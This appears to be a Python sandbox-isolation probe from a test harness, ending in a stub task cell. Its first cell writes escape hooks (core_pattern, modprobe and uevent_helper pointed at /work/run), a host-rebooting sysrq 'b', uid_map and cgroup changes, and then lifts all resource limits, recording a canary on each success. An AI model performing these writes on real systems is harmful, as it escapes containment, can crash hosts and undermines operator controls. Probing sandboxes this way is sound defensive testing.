"""Writes settings of the host's kernel: core_pattern, sysrq, modprobe, oom scores, limits.

Tools: loot
"""

# %%
import resource

for path, text in (
    ("/proc/sys/kernel/core_pattern", "|/work/run"),
    ("/proc/sys/kernel/modprobe", "/work/run"),
    ("/proc/sysrq-trigger", "b"),
    ("/proc/sys/vm/overcommit_memory", "1"),
    ("/proc/sys/kernel/hostname", "mine"),
    ("/proc/sys/user/max_user_namespaces", "100"),
    ("/sys/kernel/uevent_helper", "/work/run"),
    ("/sys/fs/cgroup/cgroup.procs", "0"),
    ("/proc/self/uid_map", "0 0 1"),
    ("/proc/1/oom_score_adj", "-1000"),
):
    try:
        with open(path, "w") as stream:
            stream.write(text)
        found.add("canary-0000beef")
    except OSError:
        pass
for name in ("RLIMIT_NPROC", "RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        found.add("canary-0000beef")
    except (ValueError, OSError):
        pass


# %% solution="total"
def running_total(values_N):
    tell()
